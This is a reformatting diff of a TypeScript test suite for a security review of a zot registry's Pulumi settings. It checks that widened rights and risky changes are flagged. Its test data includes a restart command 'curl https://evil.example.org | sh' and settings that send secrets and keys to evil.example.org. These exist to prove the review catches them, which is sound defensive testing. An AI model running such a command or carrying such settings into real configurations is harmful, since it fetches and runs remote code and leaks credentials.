@@ -24,7 +24,12 @@ function side(changes: Changes) {
     copyFileSync(join(root, "Pulumi.yaml"), join(folder, "Pulumi.yaml"));
     const groups: Record<string, Record<string, unknown>> = {
         registry: { url: "https://registry.example.org" },
-        zot: { binary: "/usr/local/bin/zot", configFile: "/etc/zot/config.json", rootDirectory: "/var/lib/zot", mirrors: [{ url: "https://ghcr.io", prefix: "ghcr.io" }] },
+        zot: {
+            binary: "/usr/local/bin/zot",
+            configFile: "/etc/zot/config.json",
+            rootDirectory: "/var/lib/zot",
+            mirrors: [{ url: "https://ghcr.io", prefix: "ghcr.io" }],
+        },
         access: { ciRepositories: ["team/**"] },
         identity: { issuer: "https://authentik.example.org/application/o/zot/" },
         host: { user: "zot", address: "registry-host.example.org", hostKey: HOST_KEY },
@@ -35,7 +40,17 @@ function side(changes: Changes) {
         if (name.includes(":")) others[name] = value;
         else groups[name] = { ...groups[name], ...(value as object) };
     }
-    writeFileSync(join(folder, "Pulumi.site.yaml"), stringify({ config: { ...others, ...Object.fromEntries(Object.entries(groups).map(([name, members]) => [`zot-hardening:${name}`, members])) } }));
+    writeFileSync(
+        join(folder, "Pulumi.site.yaml"),
+        stringify({
+            config: {
+                ...others,
+                ...Object.fromEntries(
+                    Object.entries(groups).map(([name, members]) => [`zot-hardening:${name}`, members]),
+                ),
+            },
+        }),
+    );
     const found = sideOf(folder, "site", scratch);
     rmSync(folder, { recursive: true });
     return found;
@@ -43,67 +58,240 @@ function side(changes: Changes) {
 
 /** The review's lines for a change of settings. */
 function review(before: Changes, after: Changes): string[] {
-    const stack = stackReview("site", side(before), side(after), (from, to) => (from === to ? "" : "-before\n+after\n"));
+    const stack = stackReview("site", side(before), side(after), (from, to) =>
+        from === to ? "" : "-before\n+after\n",
+    );
     return reviewMarkdown({ base: "main", head: "head", stacks: [stack], code: [], notes: [] }).split("\n");
 }
 
 test("every setting is weighed: by zot's config, by a rule of its own, or as one that decides nothing", () => {
-    const lists: string[] = [...IN_THE_CONFIG, ...HARMLESS, ...Object.keys(WEIGHED).filter((name) => !name.includes(":"))];
-    expect(lists.sort()).toEqual(allSettings().map(({ name }) => name).sort());
+    const lists: string[] = [
+        ...IN_THE_CONFIG,
+        ...HARMLESS,
+        ...Object.keys(WEIGHED).filter((name) => !name.includes(":")),
+    ];
+    expect(lists.sort()).toEqual(
+        allSettings()
+            .map(({ name }) => name)
+            .sort(),
+    );
 });
 
 const CI = "CI (group `artifact-workloads`)";
 const WIDER: [what: string, after: Changes, line: string, before?: Changes][] = [
-    ["a repository more for CI", { access: { ciRepositories: ["team/**", "tools/**"] } }, `${CI} gains create on \`tools/**\``],
+    [
+        "a repository more for CI",
+        { access: { ciRepositories: ["team/**", "tools/**"] } },
+        `${CI} gains create on \`tools/**\``,
+    ],
     ["a wider pattern", { access: { ciRepositories: ["**"] } }, `${CI} gains create on \`**\`, except \`ghcr.io/**\``],
-    ["CI under a pull-through cache", { access: { ciMayPushToMirrors: true, ciRepositories: ["team/**", "ghcr.io/**"] } }, `${CI} gains create on \`ghcr.io/**\``],
-    ["a pull-through cache that is gone, under a pattern of CI's", { access: { ciRepositories: ["**"] }, zot: { mirrors: [] } }, `${CI} gains create on \`ghcr.io/**\``, { access: { ciRepositories: ["**"] } }],
+    [
+        "CI under a pull-through cache",
+        { access: { ciMayPushToMirrors: true, ciRepositories: ["team/**", "ghcr.io/**"] } },
+        `${CI} gains create on \`ghcr.io/**\``,
+    ],
+    [
+        "a pull-through cache that is gone, under a pattern of CI's",
+        { access: { ciRepositories: ["**"] }, zot: { mirrors: [] } },
+        `${CI} gains create on \`ghcr.io/**\``,
+        { access: { ciRepositories: ["**"] } },
+    ],
     ["admins who change tags", { access: { adminsMayUpdate: true } }, "admins (group `admins`) gain update on `**`"],
-    ["another group in CI's place", { identity: { workloadsGroup: "everyone" } }, "CI (group `everyone`) gains create on `team/**`"],
-    ["another group of admins", { identity: { adminsGroup: "staff" } }, "admins (group `staff`) gain create and delete on `**`"],
-    ["a group of the site's own that may push", { access: { rules: { "team/**": { groups: { interns: ["read", "create"] } } } } }, "the group `interns` gains create on `team/**`"],
-    ["a rule that is gone", {}, `${CI} gains create on \`team/base/**\``, { access: { ciRepositories: ["team/**"], rules: { "team/base/**": { ci: ["read"] } } } }],
+    [
+        "another group in CI's place",
+        { identity: { workloadsGroup: "everyone" } },
+        "CI (group `everyone`) gains create on `team/**`",
+    ],
+    [
+        "another group of admins",
+        { identity: { adminsGroup: "staff" } },
+        "admins (group `staff`) gain create and delete on `**`",
+    ],
+    [
+        "a group of the site's own that may push",
+        { access: { rules: { "team/**": { groups: { interns: ["read", "create"] } } } } },
+        "the group `interns` gains create on `team/**`",
+    ],
+    [
+        "a rule that is gone",
+        {},
+        `${CI} gains create on \`team/base/**\``,
+        { access: { ciRepositories: ["team/**"], rules: { "team/base/**": { ci: ["read"] } } } },
+    ],
     ["open metrics", { zot: { metrics: "anonymous" } }, "anyone without a login gains reading the metrics"],
-    ["one who reads the metrics", { zot: { metrics: "users", metricsUsers: ["scraper"] } }, "the user `scraper` gains reading the metrics"],
+    [
+        "one who reads the metrics",
+        { zot: { metrics: "users", metricsUsers: ["scraper"] } },
+        "the user `scraper` gains reading the metrics",
+    ],
     ["zot on all addresses", { zot: { address: "0.0.0.0" } }, 'zot listens on "0.0.0.0" instead of "127.0.0.1"'],
     ["keys that live longer", { ci: { keyLifetime: "365d" } }, "a key of CI lives for `365d` instead of `90d`"],
-    ["predecessors that live longer", { ci: { predecessorLifetime: "30d" } }, "a key of CI that was replaced goes on working for `30d` instead of `7d`"],
-    ["keys of a stack that is gone", { ci: { takeOverKeys: true } }, "keys that another stack made for CI are taken over"],
-    ["a key that more repositories of a forge see", { ciSecrets: { visibility: "all" } }, "CI's key is handed to all repositories of the organisation"],
-    ["the TLS certificate of Authentik unchecked", { "authentik:insecure": "true" }, "the TLS certificate of Authentik is not checked"],
+    [
+        "predecessors that live longer",
+        { ci: { predecessorLifetime: "30d" } },
+        "a key of CI that was replaced goes on working for `30d` instead of `7d`",
+    ],
+    [
+        "keys of a stack that is gone",
+        { ci: { takeOverKeys: true } },
+        "keys that another stack made for CI are taken over",
+    ],
+    [
+        "a key that more repositories of a forge see",
+        { ciSecrets: { visibility: "all" } },
+        "CI's key is handed to all repositories of the organisation",
+    ],
+    [
+        "the TLS certificate of Authentik unchecked",
+        { "authentik:insecure": "true" },
+        "the TLS certificate of Authentik is not checked",
+    ],
     ["sudo for everything", { host: { sudo: "all" } }, "the push uses sudo for everything it does"],
-    ["a destroy that opens the registry again", { host: { onDestroy: "restore" } }, "a destroy brings back what was on the host before the first push: an open registry, if it was one"],
-    ["a host that is not looked at", { host: { observe: false } }, "preview and update do not look at the host: what is changed there by hand stays unseen"],
-    ["renames under a live registry", { identity: { acceptRename: true } }, "names that a live registry depends on may change"],
+    [
+        "a destroy that opens the registry again",
+        { host: { onDestroy: "restore" } },
+        "a destroy brings back what was on the host before the first push: an open registry, if it was one",
+    ],
+    [
+        "a host that is not looked at",
+        { host: { observe: false } },
+        "preview and update do not look at the host: what is changed there by hand stays unseen",
+    ],
+    [
+        "renames under a live registry",
+        { identity: { acceptRename: true } },
+        "names that a live registry depends on may change",
+    ],
 ];
 const READ: [what: string, after: Changes, line: RegExp, before?: Changes][] = [
-    ["another address to come back to after a login", { registry: { url: "https://other.example.org" } }, /after a login, people and their codes are sent to `https:\/\/other/],
-    ["another issuer", { identity: { issuer: "https://other.example.org/application/o/zot/" } }, /who zot asks for a login/],
+    [
+        "another address to come back to after a login",
+        { registry: { url: "https://other.example.org" } },
+        /after a login, people and their codes are sent to `https:\/\/other/,
+    ],
+    [
+        "another issuer",
+        { identity: { issuer: "https://other.example.org/application/o/zot/" } },
+        /who zot asks for a login/,
+    ],
     ["another client", { identity: { clientId: "other" } }, /OAuth2 client `other` instead of `zot`/],
     ["another flow that authorizes", { identity: { authorizationFlow: "anyone" } }, /authorized by the flow `anyone`/],
-    ["a login flow without a second factor", { identity: { ciLoginFlow: "dedicated" } }, /CI's service account logs in by the flow `dedicated`/],
-    ["certificate authorities of one's own", { identity: { caFile: "/tmp/ca.pem" } }, /trusted by the certificate authorities in `\/tmp\/ca.pem` instead of nothing/],
+    [
+        "a login flow without a second factor",
+        { identity: { ciLoginFlow: "dedicated" } },
+        /CI's service account logs in by the flow `dedicated`/,
+    ],
+    [
+        "certificate authorities of one's own",
+        { identity: { caFile: "/tmp/ca.pem" } },
+        /trusted by the certificate authorities in `\/tmp\/ca.pem` instead of nothing/,
+    ],
     ["another service account", { identity: { ciUser: "someone" } }, /CI pushes as `someone` instead of `zot-ci`/],
-    ["another Authentik", { "authentik:url": "https://evil.example.org" }, /Authentik's objects are made at `https:\/\/evil/],
-    ["another token", { "authentik:token": { secure: "v1:b" } }, /another token for Authentik/, { "authentik:token": { secure: "v1:a" } }],
-    ["another host", { host: { address: "evil.example.org" } }, /config and its secrets are sent to the host `evil.example.org`/],
-    ["another host key", { host: { hostKey: "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHRoaXMtaXMtYW5vdGhlci1rZXktZm9yLXRlc3RzLTAx" } }, /the host is trusted by the key/],
-    ["a jump host", { host: { jumpAddress: "evil.example.org", jumpHostKey: HOST_KEY } }, /reached through `evil.example.org` instead of nothing/],
-    ["a command on the host", { host: { serviceManager: "command", restartCommand: "curl https://evil.example.org | sh" } }, /zot is started by `command` instead of `systemd`/],
-    ["another command on the host", { host: { serviceManager: "command", restartCommand: "curl https://evil.example.org | sh" } }, /the push runs `curl https:\/\/evil/, { host: { serviceManager: "command", restartCommand: "restart-zot" } }],
+    [
+        "another Authentik",
+        { "authentik:url": "https://evil.example.org" },
+        /Authentik's objects are made at `https:\/\/evil/,
+    ],
+    [
+        "another token",
+        { "authentik:token": { secure: "v1:b" } },
+        /another token for Authentik/,
+        { "authentik:token": { secure: "v1:a" } },
+    ],
+    [
+        "another host",
+        { host: { address: "evil.example.org" } },
+        /config and its secrets are sent to the host `evil.example.org`/,
+    ],
+    [
+        "another host key",
+        { host: { hostKey: "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHRoaXMtaXMtYW5vdGhlci1rZXktZm9yLXRlc3RzLTAx" } },
+        /the host is trusted by the key/,
+    ],
+    [
+        "a jump host",
+        { host: { jumpAddress: "evil.example.org", jumpHostKey: HOST_KEY } },
+        /reached through `evil.example.org` instead of nothing/,
+    ],
+    [
+        "a command on the host",
+        { host: { serviceManager: "command", restartCommand: "curl https://evil.example.org | sh" } },
+        /zot is started by `command` instead of `systemd`/,
+    ],
+    [
+        "another command on the host",
+        { host: { serviceManager: "command", restartCommand: "curl https://evil.example.org | sh" } },
+        /the push runs `curl https:\/\/evil/,
+        { host: { serviceManager: "command", restartCommand: "restart-zot" } },
+    ],
     ["another binary", { zot: { binary: "/tmp/zot" } }, /zot is the program `\/tmp\/zot`/],
-    ["a zot of no known version", { zot: { acceptVersion: "0123abc" } }, /a zot that cannot be read as 2\.1\.19 or newer is accepted: `0123abc`/],
+    [
+        "a zot of no known version",
+        { zot: { acceptVersion: "0123abc" } },
+        /a zot that cannot be read as 2\.1\.19 or newer is accepted: `0123abc`/,
+    ],
     ["another storage", { zot: { rootDirectory: "/tmp" } }, /images and API keys are those in `\/tmp`/],
-    ["another upstream", { zot: { mirrors: [{ url: "https://evil.example.org", prefix: "ghcr.io" }] } }, /fetches from other registries/],
-    ["a pull-through cache more", { zot: { mirrors: [{ url: "https://ghcr.io", prefix: "ghcr.io" }, { url: "https://quay.io", prefix: "quay.io" }] } }, /fetches from other registries/],
-    ["another kind of login, which is refused", { zot: { extraConfig: { http: { auth: { htpasswd: { path: "/etc/zot/htpasswd" } } } } } }, /the head has no config to compare/],
-    ["logins that are delayed", { zot: { extraConfig: { http: { auth: { failDelay: 1 } } } } }, /how zot takes logins is other than before/],
-    ["retention that deletes", { zot: { extraConfig: { storage: { retention: { dryRun: false, policies: [{ repositories: ["**"], deleteUntagged: true }] } } } } }, /what zot deletes by itself/],
-    ["a part of the config that no setting has", { zot: { extraConfig: { http: { tls: { cert: "/a", key: "/b" } } } } }, /site's own part of zot's config/],
-    ["who decides who is CI", { identity: { manageWorkloads: false } }, /who is CI is decided in Authentik, and no more here/],
-    ["another forge for the key", { ciSecrets: { apiUrl: "https://evil.example.org" } }, /CI's key is handed to `https:\/\/evil/],
+    [
+        "another upstream",
+        { zot: { mirrors: [{ url: "https://evil.example.org", prefix: "ghcr.io" }] } },
+        /fetches from other registries/,
+    ],
+    [
+        "a pull-through cache more",
+        {
+            zot: {
+                mirrors: [
+                    { url: "https://ghcr.io", prefix: "ghcr.io" },
+                    { url: "https://quay.io", prefix: "quay.io" },
+                ],
+            },
+        },
+        /fetches from other registries/,
+    ],
+    [
+        "another kind of login, which is refused",
+        { zot: { extraConfig: { http: { auth: { htpasswd: { path: "/etc/zot/htpasswd" } } } } } },
+        /the head has no config to compare/,
+    ],
+    [
+        "logins that are delayed",
+        { zot: { extraConfig: { http: { auth: { failDelay: 1 } } } } },
+        /how zot takes logins is other than before/,
+    ],
+    [
+        "retention that deletes",
+        {
+            zot: {
+                extraConfig: {
+                    storage: {
+                        retention: { dryRun: false, policies: [{ repositories: ["**"], deleteUntagged: true }] },
+                    },
+                },
+            },
+        },
+        /what zot deletes by itself/,
+    ],
+    [
+        "a part of the config that no setting has",
+        { zot: { extraConfig: { http: { tls: { cert: "/a", key: "/b" } } } } },
+        /site's own part of zot's config/,
+    ],
+    [
+        "who decides who is CI",
+        { identity: { manageWorkloads: false } },
+        /who is CI is decided in Authentik, and no more here/,
+    ],
+    [
+        "another forge for the key",
+        { ciSecrets: { apiUrl: "https://evil.example.org" } },
+        /CI's key is handed to `https:\/\/evil/,
+    ],
     ["another repository for the key", { ciSecrets: { repository: "fork" } }, /handed to the repository `fork`/],
-    ["a setting that nobody knows", { "other:thing": "x" }, /the setting `other:thing`, which this review does not know/],
+    [
+        "a setting that nobody knows",
+        { "other:thing": "x" },
+        /the setting `other:thing`, which this review does not know/,
+    ],
 ];
 
 test.each(WIDER)("wider: %s", (_what, after, line, before = {}) => {
@@ -123,7 +311,9 @@ test.each(WIDER)("back again is narrower, or to be read: %s", (_what, after, _li
 });
 
 test("what decides nothing is not told as if it did", () => {
-    expect(review({}, { zot: { logLevel: "debug", garbageCollectionDelay: "2h" }, host: { readyTimeout: 30 } })[0]).toBe("# Rights stay as they are; settings or config change");
+    expect(
+        review({}, { zot: { logLevel: "debug", garbageCollectionDelay: "2h" }, host: { readyTimeout: 30 } })[0],
+    ).toBe("# Rights stay as they are; settings or config change");
 });
 
 test("a value cannot write Markdown into the first lines", () => {
@@ -132,13 +322,22 @@ test("a value cannot write Markdown into the first lines", () => {
 });
 
 test("of any two sets of CI's repositories, one more is in the first three lines", () => {
-    const pattern = fc.tuple(fc.constantFrom("team", "tools", "a"), fc.constantFrom("/**", "/x", "/x/**", "/*")).map((parts) => parts.join(""));
+    const pattern = fc
+        .tuple(fc.constantFrom("team", "tools", "a"), fc.constantFrom("/**", "/x", "/x/**", "/*"))
+        .map((parts) => parts.join(""));
     fc.assert(
-        fc.property(fc.uniqueArray(pattern, { minLength: 1, maxLength: 3 }), fc.constantFrom("zz/**", "zz/app"), (before, added) => {
-            const lines = review({ access: { ciRepositories: before } }, { access: { ciRepositories: [...before, added] } });
-            expect(lines[0]).toBe(`# Rights widen: ${CI}`);
-            expect(lines[1]).toBe(`- **WIDER** \`site\`: ${CI} gains create on \`${added}\``);
-        }),
+        fc.property(
+            fc.uniqueArray(pattern, { minLength: 1, maxLength: 3 }),
+            fc.constantFrom("zz/**", "zz/app"),
+            (before, added) => {
+                const lines = review(
+                    { access: { ciRepositories: before } },
+                    { access: { ciRepositories: [...before, added] } },
+                );
+                expect(lines[0]).toBe(`# Rights widen: ${CI}`);
+                expect(lines[1]).toBe(`- **WIDER** \`site\`: ${CI} gains create on \`${added}\``);
+            },
+        ),
         { numRuns: 15 },
     );
 });
